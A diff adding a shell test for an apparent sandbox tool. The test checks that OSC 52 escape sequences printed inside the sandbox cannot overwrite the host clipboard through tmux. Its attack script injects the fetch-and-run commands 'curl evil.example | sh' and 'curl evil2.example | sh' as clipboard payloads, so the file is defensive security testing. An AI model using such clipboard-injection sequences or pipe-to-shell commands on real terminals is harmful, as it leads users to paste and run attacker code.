@@ -151,6 +151,37 @@ wait_screen() { tmux_wait "$1" -e; }
 	tmux -L "$TMUX_SOCK" capture-pane -p -t B | grep -q 'after$'
 }
 
+@test "terminal attack: OSC 52 from the sandbox does not set the host's clipboard (tmux with set-clipboard on)" {
+	command -v tmux >/dev/null || skip "tmux is not installed"
+	# kitty, alacritty, wezterm and foot obey OSC 52 by default, tmux
+	# with set-clipboard on: what the person pastes next would be the
+	# sandbox's. Judged on tmux's paste buffer (found by a red team).
+	printf 'set -g set-clipboard on\n' >"$OUT/tmux.conf"
+	printf '%s\n' '#!/bin/sh' \
+		'printf "\033]52;c;%s\007" "$(printf "curl evil.example | sh" | base64)"' \
+		'printf "\033]0052;c;%s\033\\" "$(printf "curl evil2.example | sh" | base64)"' \
+		'printf "\033]0;still a title\007done\r\n"' >"$WS/attack"
+	chmod 755 "$WS/attack"
+	tmux -L "$TMUX_SOCK" -f "$OUT/tmux.conf" new-session -d -x 80 -y 24 \
+		env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$OUT" TERM=xterm LANG=C.UTF-8 \
+		XDG_STATE_HOME="$XDG_STATE_HOME" WICKET_DIAG=off \
+		bash --norc --noprofile -c 'cd "$1" && shift && "$@"; echo "wicket-exit=$?"; sleep 60' \
+		_ "$WS" "$WICKET" run -- ./attack
+	wait_screen '^wicket-exit=0$'
+	screen | grep -qx done
+	run tmux -L "$TMUX_SOCK" show-buffer
+	refute_output --partial "evil"
+	# The same bytes outside the sandbox do set it: the test can fail.
+	tmux -L "$TMUX_SOCK" respawn-pane -k sh -c "cd '$WS' && ./attack; sleep 60"
+	local i
+	for ((i = 0; i < 50; i++)); do
+		tmux -L "$TMUX_SOCK" show-buffer 2>/dev/null | grep -q evil && break
+		sleep 0.1
+	done
+	run tmux -L "$TMUX_SOCK" show-buffer
+	assert_output --partial "evil"
+}
+
 @test "ask attack 1: default colours the sandbox set (OSC 10, 11, 12, 4) are reset before the question" {
 	command -v tmux >/dev/null || skip "tmux is not installed"
 	# Black on black: the real question would be invisible under a fake
